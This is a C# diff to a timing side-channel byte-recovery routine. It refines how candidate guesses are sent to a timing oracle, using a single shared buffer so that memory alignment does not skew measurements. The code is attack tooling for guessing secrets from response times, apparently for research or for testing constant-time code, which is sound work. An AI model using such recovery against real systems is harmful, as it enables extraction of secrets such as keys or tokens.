@@ -142,13 +142,15 @@ public sealed class ByteRecoverer(ITimingOracle oracle, RecoveryOptions options)
             samples[c] = new List<double>(options.MaxSamples);
         }
 
-        var guesses = new byte[Candidates][];
-        for (var c = 0; c < Candidates; c++)
+        // One buffer for every candidate: only guess[pos] changes, so no candidate gets a different
+        // memory address or alignment (which would be a per-candidate timing difference of its own).
+        var guess = new byte[known.Length];
+        known.AsSpan(0, pos).CopyTo(guess); // filler after pos stays zero
+
+        double Sample(int candidate)
         {
-            var g = new byte[known.Length];
-            known.AsSpan(0, pos).CopyTo(g);
-            g[pos] = (byte)c; // filler after pos stays zero
-            guesses[c] = g;
+            guess[pos] = (byte)candidate;
+            return oracle.Query(guess).ElapsedNs;
         }
 
         var order = Enumerable.Range(0, Candidates).ToArray();
@@ -163,7 +165,7 @@ public sealed class ByteRecoverer(ITimingOracle oracle, RecoveryOptions options)
                 rng.Shuffle(order);
                 foreach (var c in order)
                 {
-                    samples[c].Add(oracle.Query(guesses[c]).ElapsedNs);
+                    samples[c].Add(Sample(c));
                 }
             }
 
@@ -181,13 +183,13 @@ public sealed class ByteRecoverer(ITimingOracle oracle, RecoveryOptions options)
             {
                 if (rng.Next(2) == 0)
                 {
-                    bestFresh[i] = oracle.Query(guesses[last.Best]).ElapsedNs;
-                    runnerFresh[i] = oracle.Query(guesses[last.RunnerUp]).ElapsedNs;
+                    bestFresh[i] = Sample(last.Best);
+                    runnerFresh[i] = Sample(last.RunnerUp);
                 }
                 else
                 {
-                    runnerFresh[i] = oracle.Query(guesses[last.RunnerUp]).ElapsedNs;
-                    bestFresh[i] = oracle.Query(guesses[last.Best]).ElapsedNs;
+                    runnerFresh[i] = Sample(last.RunnerUp);
+                    bestFresh[i] = Sample(last.Best);
                 }
             }
 
